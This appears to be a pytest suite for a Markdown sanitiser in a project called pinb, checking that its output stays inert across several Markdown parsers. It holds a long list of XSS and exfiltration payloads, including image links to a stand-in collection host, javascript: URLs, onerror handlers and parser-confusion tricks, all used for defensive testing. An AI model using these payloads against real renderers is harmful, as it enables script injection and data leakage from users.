"""The one Markdown policy: hostile Markdown leaves nothing live and nothing that fetches,
in pinb's HTML and in its Markdown as other parsers read it; the rest of the formatting is kept.
"""

from __future__ import annotations

import html
import random
import re
import signal
from collections.abc import Iterator
from contextlib import contextmanager
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from pinb.render.html import SAFE_TAGS, style
from pinb.render.markdown import (
    MAX_MARKDOWN_CHARS,
    MAX_NESTING,
    STREAM_PARSE_CHARS,
    MarkdownStream,
    code,
    fence,
    literal,
    markdown_to_html,
    markdown_to_markdown,
)
from tests.render.renderers import commonmark_html, github_html, live, marked_html, mistune_html

#: Where a fetch would go: an address no test may reach (it is never requested).
H = "http://203.0.113.7"

HOSTILE = [
    f"![x]({H}/collect?d=secret)",
    f"![x][r]\n\n[r]: {H}/collect?d=secret",
    f"![x][]\n\n[x]: {H}/c",
    f"![x]\n\n[x]: {H}/c 'a title'",
    f"[a]: {H}/i.png\n\n![a] ![A] ![ a ]",
    f"![a ![b]({H}/b.png)]({H}/a.png)",
    f"[![x]({H}/i.png)]({H}/)",
    # nbconvert takes $$…$$, \\[…\\] and \begin{}…\end{} for maths anywhere, across blocks
    f"`$$` a\n\n```\n$$<img src={H}/i.png>\n```",
    "a \\\\[ b\n\n```\n\\\\]<img src=" + H + "/i.png>\n```",
    f"[x]({H}/$$) a\n\n```\n$$<img src={H}/i.png>\n```",
    "\\begin{x} a\n\n```\n\\end{x}<img src=" + H + "/i.png>\n```",
    # nbconvert's mistune ends a strikethrough at a "~~" in code (here the later span's)
    f"~~`` ~~``~~``~~<img src={H}/i.png>``",
    f"see {H}/x~~gone~~ and `a~~<img src={H}/i.png>` b",
    # marked turns \[ \] in a link's text back into brackets and parses it again
    f"[a !\\[x\\]({H}/i.png) b]({H}/) ![x !\\[y\\]({H}/j.png)]({H}/a.png)",
    f"[![x][i]][l]\n\n[i]: {H}/i.png\n[l]: {H}/",
    f"&#x21;[x]({H}/i.png) &#33;[y]({H}/j.png) &excl;[z]({H}/k.png) &#X21;[w]({H}/l.png)",
    f"\\![x]({H}/i.png) !\\[y]({H}/j.png) wow![z]({H}/k.png) !*[v]({H}/m.png)*",
    f"| a | b |\n|---|---|\n| ![x]({H}/i.png) | `<img src={H}/j.png>` |",
    f"| `a|<img src={H}/i.png>` | b |\n|---|---|\n| c | d |",
    f"- ![x]({H}/i.png)\n  1. ![y]({H}/j.png)\n- [ ] ![z]({H}/k.png)",
    f"# ![x]({H}/i.png)\n\nSetext ![y]({H}/j.png)\n===",
    f"> ![x]({H}/i.png)\n> > <img src={H}/j.png>",
    f"<{H}/i.png> <{H}/j.png> <mailto:a@b.c> <a@b.c>",
    f'<img src="{H}/i.png"> <IMG SRC={H}/j.png> <img\nsrc={H}/k.png>',
    f'<iframe src="{H}/frame"></iframe>',
    f'<div style="background:url({H}/bg.png)">x</div>',
    f"<span style=\"background-image: url('{H}/bg.png')\">y</span>",
    f'<svg><image href="{H}/i.svg"/></svg> <svg><use xlink:href="{H}/s.svg#a"/></svg>',
    f'<video poster="{H}/p.png"></video> <audio src="{H}/a.mp3"></audio>',
    f"<link rel=stylesheet href={H}/s.css> <style>@import url({H}/s.css)</style>",
    f"<script src={H}/s.js></script> <object data={H}/o></object> <embed src={H}/e>",
    f"<table><tr><td background={H}/i.png>x</td></tr></table>",
    f"<a href={H}/x><img src={H}/i.png></a>",
    "[x](data:text/html;base64,PHNjcmlwdD4=) ![y](data:image/png;base64,iVBORw0KGgo=)",
    "[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](vbscript:msgbox) [f](file:///etc/x)",
    "[x](<javascript:alert(1)>) <javascript:alert(1)> [r][j]\n\n[j]: javascript:alert(1)",
    f"```\n<img src={H}/i.png>\n",
    f"- a\n\n  ```\n  <img src={H}/i.png>\n  ```\n- b",
    f"````\n```\n<img src={H}/i.png>\n```\n````",
    f"~~~\n<img src={H}/i.png>\n~~~~ \n<img src={H}/j.png>",
    f"```js`x\n<img src={H}/i.png>\n```",
    f"```\nsafe\n```~\n<img src={H}/i.png>\n```",
    f"> ```\n> <img src={H}/i.png>",
    f"    <img src={H}/i.png>",
    f"`` ` <img src={H}/i.png> ` ``",
    f"<!-- <img src={H}/i.png> --> <![CDATA[ <img src={H}/j.png> ]]> <?php x ?>",
    f"$<img src={H}/i.png>$ $$<img src={H}/j.png>$$",
    f"*![x]({H}/i.png)* **![y]({H}/j.png)** ~~![z]({H}/k.png)~~",
    f'![x]({H}/i.png "t" ) ![y]( {H}/j.png ) ![z](<{H}/k l.png>)',
    f"\x00<img src={H}/i.png>\r\n![x]({H}/j.png)\r![y]({H}/k.png)",
    f"1. ![x]({H}/i.png)\n2) ![y]({H}/j.png)\n+ ![z]({H}/k.png)",
    "![" * 50 + "x" + f"]({H}/i.png)" * 50,
    "[" * 50 + f"![x]({H}/i.png)" + "]" * 50,
    f"www.h.example/i.png {H}/j.png",
    f"a\n<img src={H}/i.png>\nb\n\n<div>\n<img src={H}/j.png>\n</div>",
    f"![x]({H}/i.png){{width=10}} ![x]({H}/i.png)<!-- -->",
    "!",
    "![",
    "![]()",
    f"![]({H}/i.png)",
    f'[x]({H}/"onmouseover="alert(1)) [y]({H}/\'><img src=x>)',
]


#: What Markdown is made of, for random mixes.
PIECES = ["![", "[", "]", "(", ")", f"{H}/i.png", "<img src=x>", "`", "```", "~~~", "\n", "\n\n",
          "> ", "- ", "1. ", "| ", "|-|", "---", "&#x21;", "&#33;", "\\", "*", "_", "<", ">", "!",
          "    ", "[r]: ", "$", ":", "#", "x", " ", "\t", "<!--", "-->", "~~", "www.h.example",
          "\\`", "``", "**", "\\[", "\\]", "[x](http://u)", "ftp://z/", "| a | b |\n|---|---|\n",
          "$$", "\\\\[", "\\\\]", "\\begin{x}", "\\end{x}"]  # fmt: skip


def _view_live(html: str) -> list[str]:
    """What in a view's HTML is outside the views' rules (SAFE_TAGS, links to web pages)."""
    found = [
        f"<{tag}>" for tag in re.findall(r"<([a-zA-Z][a-zA-Z0-9]*)", html) if tag not in SAFE_TAGS
    ]
    for attrs in re.findall(r"<[a-z]+((?:\s+[a-z-]+=\"[^\"]*\")*)\s*>", html):
        for name, value in re.findall(r"([a-z-]+)=\"([^\"]*)\"", attrs):
            if name not in ("class", "style", "href", "rel", "target", "title", "start"):
                found.append(f"{name}={value}")
            if name == "style" and "url(" in value:
                found.append(value)
            if name == "href" and not value.startswith(("http://", "https://", "mailto:")):
                found.append(value)
    return found


@contextmanager
def hang_guard(seconds: int = 120) -> Iterator[None]:
    """Fail a step that would never end (not a timing: the work is linear)."""

    def expire(signum: int, frame: object) -> None:
        raise AssertionError(f"no answer in {seconds} s: a hang")

    previous = signal.signal(signal.SIGALRM, expire)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


@pytest.mark.parametrize("text", HOSTILE)
def test_pinbs_markdown_is_inert_under_commonmark_github_and_nbconvert(text: str) -> None:
    source = markdown_to_markdown(text)
    assert live(commonmark_html(source)) == []
    assert live(github_html(source)) == []
    assert live(mistune_html(source)) == []


@pytest.mark.parametrize("text", HOSTILE)
def test_pinbs_html_has_only_the_views_tags_and_no_fetch(text: str) -> None:
    html = markdown_to_html(text)
    assert _view_live(html) == []
    assert re.search(r"<(img|iframe|svg|video|audio|object|embed|link)\b", html) is None


def test_pinbs_markdown_is_inert_under_marked(pi_install: Path) -> None:
    rng = random.Random(39)
    fuzz = ["".join(rng.choice(PIECES) for _ in range(rng.randint(1, 60))) for _ in range(1500)]
    sources = [markdown_to_markdown(text) for text in HOSTILE + fuzz]
    for text, page in zip(HOSTILE + fuzz, marked_html(sources, pi_install), strict=True):
        assert live(page) == [], (text, page)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=30).map("".join))
def test_any_mix_of_markdowns_punctuation_stays_inert(text: str) -> None:
    source = markdown_to_markdown(text)
    assert live(commonmark_html(source)) == []
    assert live(github_html(source)) == []
    assert live(mistune_html(source)) == []
    assert _view_live(markdown_to_html(text)) == []


def test_an_image_becomes_a_link_the_user_may_click() -> None:
    inline, reference = HOSTILE[0], HOSTILE[1]
    for text in (inline, reference):
        assert markdown_to_markdown(text) == f"[image: x]({H}/collect?d=secret)"
        html = markdown_to_html(text)
        assert f'<a href="{H}/collect?d=secret" rel="noopener noreferrer nofollow"' in html
        assert ">image: x</a>" in html
    # Inside a link it is the link's text, its own address shown as code.
    assert markdown_to_markdown(HOSTILE[6]) == f"[image: x (`{H}/i.png`)]({H}/)"
    assert markdown_to_markdown(f"![]({H}/i.png)") == f"[image]({H}/i.png)"
    # A "!" written as an entity, or just before a link, never joins the link into an image.
    assert markdown_to_markdown(f"&#x21;[x]({H}/i.png) wow![y]({H}/j.png)") == (
        f"\\![x]({H}/i.png) wow[image: y]({H}/j.png)"
    )


def test_a_link_elsewhere_than_the_web_shows_its_address_as_code() -> None:
    text = "[x](javascript:alert(1)) <javascript:alert(1)> [rel](app.py) ![d](data:image/png;base64,AA)"
    assert markdown_to_markdown(text) == (
        "x (`javascript:alert(1)`) `javascript:alert(1)` rel (`app.py`) "
        "image: d (`data:image/png;base64,AA`)"
    )
    assert "<a " not in markdown_to_html(text)
    kept = markdown_to_markdown("[a](https://e.org/x?b=1&c=(2)) <a@b.c> <https://e.org>")
    assert kept == (
        "[a](https://e.org/x?b=1&amp;c=\\(2\\)) [a@b.c](mailto:a@b.c) [https://e.org](https://e.org)"
    )
    assert 'href="https://e.org/x?b=1&amp;c=(2)"' in commonmark_html(kept)


def test_a_links_title_is_kept_in_html_only() -> None:
    assert markdown_to_markdown('[x](https://e.org "a `t` [x]")') == "[x](https://e.org)"
    assert 'title="a `t` [x]"' in markdown_to_html('[x](https://e.org "a `t` [x]")')


def test_raw_html_shows_as_the_text_it_is() -> None:
    text = '<img src=x onerror="alert(1)"> <b>bold</b>\n\n<div>\nblock\n</div>'
    source = markdown_to_markdown(text)
    assert "<" not in source
    page = commonmark_html(source)
    assert "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;" in page and "&lt;div&gt;" in page
    assert "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;" in markdown_to_html(text)


BENIGN = [
    "# Title\n\nA paragraph with **bold**, *it*, _under_, `code`, ~~gone~~ and a [link](https://e.org).",
    "Setext\n======\n\nSub\n---\n\n### ATX ###",
    "- one\n- two\n  - nested `x`\n  - more\n- three",
    "1. first\n\n2. second, loose\n\n   with a paragraph\n3. third",
    "3) three\n4) four",
    "* star\n* list\n\n+ plus\n+ list",
    "> a quote\n> - with a list\n>\n> ```sh\n> ls -la\n> ```",
    "```python title\nif a < b:\n    print('<b>')\n```\n\n~~~\nwith ``` inside\n~~~",
    "    indented code\n    <kept>",
    "| left | right | centre | none |\n|:--|--:|:-:|---|\n| `a|b` | 2 | **c** | [d](https://e.org) |",
    "a hard  \nbreak and a soft\nbreak\\\nand a backslash one",
    "***\n\n___\n\n- - -",
    "Escapes: \\*not\\*, 1\\. no list, \\# no heading, a\\_b, &lt;b&gt; &amp; &copy;",
    "snake_case and file_name.py, 3 * 4 = 12, a-b, (x), 50%!",
    "- [ ] todo\n- [x] done",
    "Autolink <https://e.org/a_b> and mail <a@b.c>.",
    "A line\n# then a heading\n- then a list\n> then a quote",
    "- a\n\n      indented in an item\n- b",
    "1. a\n   1. b\n      1. c\n         - d",
    "Text with trailing backslash\\",
    "Math $x$ and a price of 5$",
]


@pytest.mark.parametrize("text", BENIGN)
def test_the_models_formatting_renders_as_it_would(text: str) -> None:
    reference = MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"])
    expected = reference.render(text).replace("[ ] ", "☐ ").replace("[x] ", "☑ ")
    assert reference.render(markdown_to_markdown(text)) == expected


def _characters(page: str) -> str:
    """``page`` with each entity but HTML's own five as its character (a renderer passes
    an entity through as written: it is the same character on the page)."""
    return re.sub(r"&(?!lt;|gt;|amp;|quot;|#39;)#?\w+;", lambda m: html.unescape(m[0]), page)


@pytest.mark.parametrize("text", [t for t in BENIGN if "- [" not in t])  # GitHub draws boxes
def test_the_models_formatting_renders_as_it_would_on_github(text: str) -> None:
    before = _characters(github_html(text))
    assert _characters(github_html(markdown_to_markdown(text))) == before


def test_the_models_formatting_renders_as_it_would_in_marked(pi_install: Path) -> None:
    originals = marked_html(BENIGN, pi_install)
    again = marked_html([markdown_to_markdown(t) for t in BENIGN], pi_install)
    for text, before, after in zip(BENIGN, originals, again, strict=True):
        before = before.replace("[ ] ", "☐ ").replace("[x] ", "☑ ")
        before = re.sub(r"<input (checked=\"\" )?disabled=\"\" type=\"checkbox\"> ?", "", before)
        before, after = _characters(before), _characters(after)
        if "- [" in text:  # marked draws task boxes itself; pinb writes ☐/☑
            assert after.count("<li>") == before.count("<li>")
            continue
        assert after == before, text


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("# Goal", f"<div{style('heading')}><b>Goal</b></div>"),
        ("**bold** and *it*", "<div><strong>bold</strong> and <em>it</em></div>"),
        ("- [x] done\n- [ ] todo", "<ul><li>☑ done</li><li>☐ todo</li></ul>"),
        ("1. one\n2. two", "<ol><li>one</li><li>two</li></ol>"),
        ("3. three", '<ol start="3"><li>three</li></ol>'),
        ("`<b>` **x**", "<div><code>&lt;b&gt;</code> <strong>x</strong></div>"),
        ("a\nb\n\nc", "<div>a</div><div>b</div><div>c</div>"),
        ("**a\nb**", "<div><strong>a b</strong></div>"),
        ("> q", f"<div{style('quote')}><div>q</div></div>"),
        ("~~x~~ ***", f"<div><span{style('strike')}>x</span> ***</div>"),
        ("***", f"<div{style('rule')}></div>"),
        (
            "```\n<script>x</script>\n```",
            f'<pre class="pinb-pre"{style("pre")}><code>&lt;script&gt;x&lt;/script&gt;</code></pre>',
        ),
    ],
)
def test_the_views_markdown(source: str, expected: str) -> None:
    assert markdown_to_html(source) == f'<div class="pinb-md"{style("md")}>{expected}</div>'


def test_a_table_is_the_views_table() -> None:
    html = markdown_to_html("| a | b |\n|---|--:|\n| `<x>` | 2 |")
    assert '<div class="pinb-table"' in html and "<table" not in html
    assert "<b>a</b>" in html and "<code>&lt;x&gt;</code>" in html
    assert f"{style('cell', 'num', 'wrap')}><b>b</b>" in html  # right-aligned column


def test_views_link_only_to_the_web_and_mail() -> None:
    html = markdown_to_html("[ok](https://example.org/a?b=1&c=2) [mail](mailto:a@b.c)")
    assert '<a href="https://example.org/a?b=1&amp;c=2" rel="noopener noreferrer nofollow"' in html
    assert '<a href="mailto:a@b.c"' in html
    for url in (
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "data:text/html,x",
        "vbscript:x",
        "java\tscript:x",
        "//evil.example",
        "#x",
        "file:///etc/passwd",
    ):
        rendered = markdown_to_html(f"[x]({url})")
        assert "<a " not in rendered, url


def test_views_never_pass_html_through() -> None:
    source = (
        "<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n"
        '"><svg onload=alert(1)>\n[x](https://a.b/"onmouseover="alert(1))\n'
        "# <iframe src=javascript:alert(1)>\n- <b onclick=x>"
    )
    html = markdown_to_html(source)
    for bad in ("<script", "<img", "<svg", "<iframe", "<b ", '" onmouseover'):
        assert bad not in html
    assert "&lt;script&gt;" in html
    # The parser percent-encodes the quotes: they cannot end the href value.
    assert 'href="https://a.b/%22onmouseover=%22alert(1)"' in html


def test_an_unclosed_fence_or_backtick_swallows_no_text() -> None:
    assert "&lt;x&gt;" in markdown_to_html("```\n<x>")
    assert markdown_to_html("a ` b") == f'<div class="pinb-md"{style("md")}><div>a ` b</div></div>'
    assert markdown_to_markdown("```\n<x>") == "```\n<x>\n```"
    assert markdown_to_markdown("a ` b") == "a \\` b"


def test_nesting_deeper_than_the_parser_follows_is_shown_literally() -> None:
    for deep in ("> " * (MAX_NESTING + 5), "- " * (MAX_NESTING + 5), "1. " * (MAX_NESTING + 5)):
        text = f"{deep}![x]({H}/i.png) the deepest words"
        source = markdown_to_markdown(text)
        assert source == literal(text)
        assert "the deepest words" in commonmark_html(source)
        assert live(commonmark_html(source)) == []
        assert "the deepest words" in markdown_to_html(text)


class _Text(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.text: list[str] = []

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def _shown(html: str) -> str:
    parser = _Text()
    parser.feed(html)
    return "".join(parser.text)


def test_very_long_input_is_shown_literally_and_whole() -> None:
    for run in ("![", "[", "![x](", "<img "):
        text = run * (1_000_000 // len(run))
        with hang_guard():
            source = markdown_to_markdown(text)
            html = markdown_to_html(text)
        assert source == literal(text)
        assert _shown(html) == text and "<img" not in html


def test_the_longest_input_parsed_stays_inert() -> None:
    text = ("**parsed** " + "![" * MAX_MARKDOWN_CHARS)[:MAX_MARKDOWN_CHARS]
    with hang_guard():
        source = markdown_to_markdown(text)
        html = markdown_to_html(text)
    assert source.startswith("**parsed** !\\[") and html.count("<strong>parsed</strong>") == 1
    assert source.count("!\\[") == text.count("![") and "<a " not in html


def test_literal_text_makes_no_markdown() -> None:
    text = f"# no\n- no\n1. no\n![x]({H}/i.png) <img src=x> **no** `no` | ~no~ $no$\n    four"
    source = literal(text)
    page = commonmark_html(source)
    assert live(page) == [] and live(mistune_html(source)) == []
    for tag in ("<h1>", "<li>", "<strong>", "<code>", "<pre>", "<del>"):
        assert tag not in page
    assert _shown(page).replace("\n", "") == text.replace("\n", "")


def test_code_with_a_backtick_is_shown_as_its_text() -> None:
    # marked masks only single-backtick spans when it looks for emphasis and link ends.
    text = "`` a `b` `` and ```<img src=x> `` *```"
    assert markdown_to_markdown(text) == "a \\`b\\` and &lt;img src=x&gt; \\`\\` \\*"
    assert code("a `b`\nc") == "a \\`b\\` c"
    assert _shown(commonmark_html(code("a ``` <img src=x> `"))) == "a ``` <img src=x> `\n"


def test_a_code_span_and_a_fence_hold_any_other_text() -> None:
    assert code("a <img src=x> *b* [c](d)\ne") == "`a <img src=x> *b* [c](d) e`"
    assert code("ends with \\") == "` ends with \\ `"
    assert _shown(commonmark_html(code("ends with \\"))) == "ends with \\\n"
    block = fence("```\n<b>\n```")
    assert block.startswith("````") and block.endswith("````")
    assert "<b>" not in commonmark_html(block).replace("&lt;b&gt;", "")


def _stream(text: str, step: int) -> tuple[list[tuple[str, str]], str]:
    """``(prefix, update)`` for every ``step`` characters of ``text``, and the final render."""
    stream = MarkdownStream()
    updates = [(text[:n], stream.render(text[:n])) for n in range(1, len(text) + 1, step)]
    return updates, stream.render(text, final=True)


def test_a_streamed_text_renders_as_each_prefix_does() -> None:
    text = "\n\n".join(BENIGN)
    updates, final = _stream(text, 7)
    for prefix, update in updates:
        assert update == markdown_to_markdown(prefix), prefix
    assert final == markdown_to_markdown(text)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_streamed_hostile_text_is_inert_at_every_update(text: str) -> None:
    updates, final = _stream(f"Intro.\n\n{text}\n\n- after\n\n{text}", 5)
    for _, update in updates:
        assert live(commonmark_html(update)) == [] and live(github_html(update)) == []
        assert live(mistune_html(update)) == []
    assert final == markdown_to_markdown(f"Intro.\n\n{text}\n\n- after\n\n{text}")


def test_a_block_too_long_to_parse_on_every_update_shows_as_text_until_whole() -> None:
    stream = MarkdownStream()
    assert stream.render("# Title\n\nfirst") == "# Title\n\nfirst"
    long_block = "**a** " * (STREAM_PARSE_CHARS // 6 + 1)
    shown = stream.render(f"# Title\n\n{long_block}")
    assert shown == f"# Title\n\n{literal(long_block)}"
    assert stream.render(f"# Title\n\n{long_block}", final=True) == markdown_to_markdown(
        f"# Title\n\n{long_block}"
    )


# (Not for any mix of punctuation: a run like "***" next to escaped text can pair its
# emphasis differently once written, and a strikethrough whose code became text can start
# with a space and no longer be one: a matter of looks, never of what is live.)
@pytest.mark.parametrize("text", [t for t in HOSTILE if not t.startswith("~~``")] + BENIGN)
def test_written_once_it_reads_back_the_same(text: str) -> None:
    source = markdown_to_markdown(text)
    assert markdown_to_markdown(source) == source
